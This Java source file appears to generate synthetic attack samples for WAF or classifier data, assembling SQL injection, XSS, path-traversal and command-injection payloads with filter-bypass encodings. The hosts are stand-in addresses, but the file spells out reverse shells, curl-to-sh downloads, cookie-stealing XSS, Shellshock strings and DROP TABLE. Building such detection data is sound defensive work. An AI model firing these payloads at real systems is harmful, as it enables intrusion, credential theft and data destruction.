package dev.forja.samples;

import java.util.List;
import java.util.Random;

/**
 * Attack payloads of four classes, composed from parts (prefix, core, terminator, obfuscation) so that no fixed token
 * appears in every sample of a class. The payloads are the textbook shapes seen in WAF logs; none targets a real host
 * (addresses are from the documentation ranges 192.0.2.0/24, 198.51.100.0/24 and 203.0.113.0/24).
 */
final class AttackPayloads {

    private final Random rnd;
    private final Encodings enc;

    AttackPayloads(Random rnd, Encodings enc) {
        this.rnd = rnd;
        this.enc = enc;
    }

    String payload(String label) {
        return switch (label) {
            case "sqli" -> sqli();
            case "xss" -> xss();
            case "path_traversal" -> traversal();
            case "cmd_injection" -> cmd();
            default -> throw new IllegalArgumentException("not an attack label: " + label);
        };
    }

    String sqli() {
        String q = pick("'", "\"", "')", "1'", "1", "1)", "-1'", "admin'", "x'", "");
        int a = 1 + rnd.nextInt(9);
        String core = switch (rnd.nextInt(11)) {
            case 0 -> " OR " + a + "=" + a;
            case 1 -> " OR '" + (char) ('a' + a) + "'='" + (char) ('a' + a);
            case 2 ->
                " UNION SELECT " + columns() + " FROM "
                        + pick("usuarios", "clientes", "users", "information_schema.tables", "mysql.user");
            case 3 -> " AND SLEEP(" + (3 + a) + ")";
            case 4 -> "; DROP TABLE " + pick("clientes", "pedidos", "sesiones");
            case 5 -> " AND (SELECT COUNT(*) FROM " + pick("usuarios", "pg_user", "sysobjects") + ")>0";
            case 6 -> ";WAITFOR DELAY '0:0:" + (3 + a) + "'";
            case 7 -> " AND extractvalue(1,concat(0x7e,(" + pick("version()", "user()", "database()") + ")))";
            case 8 -> " ORDER BY " + (a + 2);
            case 9 -> " || pg_sleep(" + a + ")";
            default -> " AND substring(@@version,1,1)=" + a;
        };
        String end = pick("--", "-- -", "#", "/*", ";--", "--+", "", "", "");
        String p = enc.someCase(q + core + end);
        // Inline comments instead of spaces: a classic filter bypass.
        if (rnd.nextInt(6) == 0) p = p.replace(" ", "/**/");
        return p;
    }

    private String columns() {
        int n = 1 + rnd.nextInt(5);
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < n; i++) {
            if (i > 0) sb.append(',');
            sb.append(pick(
                    "NULL",
                    String.valueOf(i + 1),
                    "username",
                    "password",
                    "email",
                    "@@version",
                    "table_name",
                    "concat(usuario,0x3a,clave)"));
        }
        return sb.toString();
    }

    String xss() {
        String js = pick(
                "alert(1)",
                "alert(document.cookie)",
                "alert('XSS')",
                "prompt(1)",
                "confirm(document.domain)",
                "fetch('//203.0.113.9/c?'+document.cookie)",
                "eval(atob('YWxlcnQoMSk='))",
                "document.location='http://198.51.100.4/?c='+document.cookie",
                "alert(String.fromCharCode(88,83,83))");
        String event = pick("onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onanimationstart");
        String breakout = pick("", "", "\">", "'>", "</textarea>", "</title>", "\" ");
        String body = switch (rnd.nextInt(9)) {
            case 0 -> "<script>" + js + "</script>";
            case 1 -> "<img src=x " + event + "=" + js + ">";
            case 2 -> "<svg/onload=" + js + ">";
            case 3 -> "javascript:" + js;
            case 4 -> "<iframe src=\"javascript:" + js + "\"></iframe>";
            case 5 -> "<body " + event + "=" + js + ">";
            case 6 -> "<details open ontoggle=" + js + ">";
            case 7 -> "<script src=//" + pick("203.0.113.7", "198.51.100.23", "evil.example") + "/x.js></script>";
            default -> "<a href=\"javascript:" + js + "\">clic aqui</a>";
        };
        String p = breakout + body;
        if (rnd.nextInt(4) == 0) p = enc.randomCase(p.replace(js, "\u0000")).replace("\u0000", js);
        // Entity- or unicode-escaped angle brackets, as stored XSS often arrives through JSON APIs.
        if (rnd.nextInt(8) == 0) p = p.replace("<", "\\u003c").replace(">", "\\u003e");
        return p;
    }

    String traversal() {
        String target = pick(
                "etc/passwd",
                "etc/shadow",
                "etc/hosts",
                "proc/self/environ",
                "windows/win.ini",
                "boot.ini",
                "WEB-INF/web.xml",
                ".env",
                "config/database.yml",
                "var/log/nginx/access.log",
                ".git/config",
                "app/config/parameters.yml",
                "windows/system32/drivers/etc/hosts");
        int depth = 2 + rnd.nextInt(7);
        String step = pick(
                "../",
                "../",
                "..\\",
                "..%2f",
                "%2e%2e%2f",
                "..%252f",
                "....//",
                "..;/",
                "%2e%2e/",
                "..%5c",
                "%c0%ae%c0%ae/");
        StringBuilder sb = new StringBuilder();
        String lead = pick("", "", "", "/var/www/html/", "imagenes/", "./");
        sb.append(lead);
        for (int i = 0; i < depth; i++) sb.append(step);
        String t = step.contains("\\") || step.contains("%5c") ? target.replace("/", "\\") : target;
        sb.append(t);
        if (rnd.nextInt(8) == 0) sb.append(pick("%00", "%00.jpg", "%00.pdf"));
        return switch (rnd.nextInt(12)) {
            case 0 ->
                "php://filter/convert.base64-encode/resource=" + pick("index.php", "config.php", "../../config.php");
            case 1 -> "file:///" + target;
            default -> sb.toString();
        };
    }

    String cmd() {
        String sep = pick(";", "|", "||", "&&", "&", "%0a", "%0d%0a", "`", "$(");
        String command = pick(
                "id",
                "whoami",
                "uname -a",
                "cat /etc/passwd",
                "ls -la /var/www",
                "sleep 10",
                "ping -c 4 192.0.2.10",
                "curl http://203.0.113.5/x.sh|sh",
                "wget -qO- http://198.51.100.7/a|bash",
                "nc -e /bin/sh 198.51.100.7 4444",
                "bash -i >& /dev/tcp/203.0.113.50/443 0>&1",
                "type C:\\Windows\\win.ini",
                "dir c:\\",
                "echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh",
                "net user",
                "cat${IFS}/etc/passwd",
                "head -n 5 /etc/shadow");
        String p = switch (sep) {
            case "`" -> "`" + command + "`";
            case "$(" -> "$(" + command + ")";
            default -> sep + (rnd.nextBoolean() ? " " : "") + command;
        };
        if (rnd.nextInt(6) == 0) p = p.replace(" ", "${IFS}");
        // Shellshock-style header payloads reach CGI scripts through environment variables.
        if (rnd.nextInt(10) == 0) p = "() { :; }; /bin/bash -c '" + command + "'";
        return p;
    }

    private String pick(String... options) {
        return options[rnd.nextInt(options.length)];
    }

    String pick(List<String> options) {
        return options.get(rnd.nextInt(options.size()));
    }
}
